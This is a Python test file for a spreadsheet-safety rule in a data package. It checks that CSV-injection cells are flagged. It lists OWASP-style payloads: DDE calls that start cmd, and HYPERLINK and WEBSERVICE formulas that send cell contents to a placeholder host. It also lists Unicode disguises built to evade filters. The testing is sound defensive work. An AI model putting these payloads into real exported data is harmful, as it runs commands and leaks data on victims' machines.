"""Spreadsheet safety as a spreadsheet sees a cell: the OWASP CSV-injection payloads, in every disguise.

The payloads are the ones the OWASP page on CSV injection and public payload lists give (DDE calls to start a
program, HYPERLINK and WEBSERVICE calls that send other cells away), each also behind a leading ``-``, in
full-width form, and behind invisible characters, since a spreadsheet (or an importer that normalises text)
ignores or folds those.
"""

from __future__ import annotations

import unicodedata

import numpy as np
import pyarrow as pa
import pytest
from conftest import in_chunks
from hypothesis import given, settings
from hypothesis import strategies as st

from caucasus_data.arrow_values import first_bytes
from caucasus_data.rules.safety import LOOK_ALIKES, UNSAFE_BYTES, executes, may_execute

EVENTS = "curated/events.csv"

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?leak="&A1,"Error: click to see")',
    '-HYPERLINK("http://example.org/?"&B2)',
    '=WEBSERVICE("http://example.org/"&A1)',
    "-=1+1",
    "--1+1",
    "-+1",
    "- =1+1",
]
DISGUISES = {
    "as-is": lambda p: p,
    "full-width": lambda p: p.translate(str.maketrans("=+-@", "＝＋－＠")),
    "zero-width-space": lambda p: "\u200b" + p,
    "byte-order-mark": lambda p: "\ufeff" + p,
    "word-joiner": lambda p: "\u2060" + p,
    "soft-hyphen": lambda p: "\u00ad" + p,
    "no-break-space": lambda p: "\u00a0" + p,
    "small-form": lambda p: p.translate(str.maketrans("=+-@", "﹦﹢﹣﹫")),
}
SAFE = [
    "-5 degrees",
    "-",
    "-he adds.",
    "- a dash before plain words",
    "a = b",
    "1+1",
    "e-mail@example.org",
    "“=quoted”",
    "'=already escaped",
    "−2+3 (a minus sign, not a hyphen)",
    "Türkiye",
    "",
]


@pytest.mark.parametrize("disguise", DISGUISES.values(), ids=DISGUISES.keys())
@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_in_every_disguise_is_unsafe(payload, disguise):
    cell = disguise(payload)
    assert executes(cell), repr(cell)


@pytest.mark.parametrize("cell", ["\t=1+1", "\ttext", "\rtext", "\r\n=1"])
def test_a_leading_tab_or_carriage_return_is_unsafe_whatever_follows(cell):
    assert executes(cell)


@pytest.mark.parametrize("cell", SAFE)
def test_text_a_spreadsheet_keeps_as_text_is_safe(cell):
    assert not executes(cell)


def test_the_look_alike_list_is_complete():
    """Every character that NFKC folds into a formula character, over all of Unicode."""
    found = {c for c in map(chr, range(0x110000)) if unicodedata.normalize("NFKC", c)[:1] in "=+-@" and c not in "=+-@"}
    assert found == set(LOOK_ALIKES)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(categories=["Cf", "Zs"]), max_size=4), st.sampled_from(["=", "+", "@", "＝"]))
def test_any_invisible_prefix_before_a_formula_character_is_unsafe(prefix, start):
    assert executes(prefix + start + "1+1")


@settings(max_examples=200, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_every_unsafe_cell_holds_a_byte_the_reader_watches_for(cell):
    """The rule skips a table whose bytes hold none of UNSAFE_BYTES: that must never skip an unsafe cell."""
    if executes(cell):
        assert any(b in cell.encode() for b in UNSAFE_BYTES)


def _screened(cell: str) -> bool:
    return bool(may_execute(np.frombuffer(cell.encode()[:1] or b"\0", dtype=np.uint8))[0])


@settings(max_examples=300, deadline=None)
@given(st.text(min_size=1, max_size=30))
def test_the_first_byte_screen_never_skips_an_unsafe_cell(cell):
    """The rule decides only cells whose first byte passes may_execute: every unsafe cell must pass it."""
    if executes(cell):
        assert _screened(cell), repr(cell)


@pytest.mark.parametrize("first", [chr(c) for c in range(1, 128)])
def test_the_first_byte_screen_is_exact_for_every_ascii_start(first):
    """For an ASCII first character the screen passes a cell exactly when some cell starting with it executes."""
    some_cell_executes = any(executes(first + rest) for rest in ["", "=1", "1", "(1)", "x", "-=1", "\u200b=1"])
    assert _screened(first) == some_cell_executes, repr(first)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.none(), st.text(max_size=6)), max_size=12),
    st.integers(0, 4),
    st.integers(1, 3),
    st.booleans(),
)
def test_first_bytes_reads_the_first_byte_of_every_cell(cells, skip, pieces, large):
    """Slices, several chunks and 64-bit offsets: the buffers are read where each cell's bytes begin."""
    kind = pa.large_string() if large else pa.string()
    whole = in_chunks(cells, 1, kind, skip, spare="spare").combine_chunks()
    chunked = in_chunks(cells, pieces, kind, skip, spare="spare")
    expected = [(c.encode()[:1] or b"\0")[0] if c else 0 for c in cells]
    assert first_bytes(whole).tolist() == expected
    assert first_bytes(chunked).tolist() == expected


CASES = {
    "dde-behind-minus": "-2+3+cmd|' /C calc'!A0",
    "full-width-equals": '＝HYPERLINK("http://example.org")',
    "zero-width-before-equals": "\u200b=1+1",
    "bom-before-equals": "\ufeff=1+1",
    "full-width-minus-formula": "－=1+1",
}


@pytest.mark.parametrize("cell", CASES.values(), ids=CASES.keys())
def test_the_rule_reports_the_cell_on_its_line(pkg, cell):
    line = pkg.add_event(description=cell)
    new = pkg.new(allow=frozenset({"format"}))
    assert (EVENTS, line, "spreadsheet-safety", "description") in new, new


def test_shipped_text_starting_with_a_dash_stays_valid(pkg):
    line = pkg.add_event(description="-he adds. A dash before words.")
    assert (EVENTS, line, "spreadsheet-safety", "description") not in pkg.new()
